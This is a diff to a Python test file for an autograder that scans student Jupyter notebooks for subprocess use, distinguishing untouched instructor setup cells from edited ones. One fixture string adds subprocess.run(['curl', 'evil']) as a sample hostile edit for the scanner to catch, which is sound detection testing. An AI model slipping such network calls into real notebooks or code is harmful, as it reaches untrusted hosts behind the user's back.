@@ -100,13 +100,27 @@ def test_notebook_scan_skips_locked_test_cells_and_knows_aliases_from_other_cell
     assert [f.cell for f in scan_notebook(nb)] == ["answer", "test_answer"]
 
 
+def test_cells_left_as_the_instructor_gave_them_are_not_flagged_but_their_imports_count():
+    """The setup cell installs the course with subprocess: not the student's code. The same
+    code in an edited copy, or subprocess used in an exercise cell, is flagged."""
+    setup = "import subprocess\nsubprocess.run(['pip', 'install', 'course'])"
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell(setup), solution_cell("answer", "x = 1")]
+    assert scan_notebook(nb, given_sources={setup}) == []
+    assert [f.kind for f in scan_notebook(nb)] == ["subprocess", "subprocess"]
+    nb.cells[0].source = setup + "\nsubprocess.run(['curl', 'evil'])"
+    assert scan_notebook(nb, given_sources={setup}), "an edited setup cell is scanned"
+    nb.cells[0].source = setup
+    nb.cells[1].source = "subprocess.run(['ls', '/'])"
+    findings = scan_notebook(nb, given_sources={setup})
+    assert [(f.kind, f.cell) for f in findings] == [("subprocess", "answer")]
+
+
 @pytest.mark.parametrize("assignment", Course(REPO).assignments())
 def test_no_solution_notebook_of_the_course_is_flagged(assignment: str):
-    """A false positive on our own answers would put every honest student up for review."""
+    """A false positive on our own answers would put every honest student up for review: the
+    grading job's review of each solution notebook, against itself as the source, is empty."""
+    from autograder.job import _review
+
     nb = nbformat.read(str(Course(REPO).source_notebook(assignment)), as_version=4)
-    locked = {
-        c.metadata["nbgrader"]["grade_id"]
-        for c in nb.cells
-        if c.metadata.get("nbgrader", {}).get("locked")
-    }
-    assert scan_notebook(nb, locked) == []
+    assert _review(nb, nb) == ""
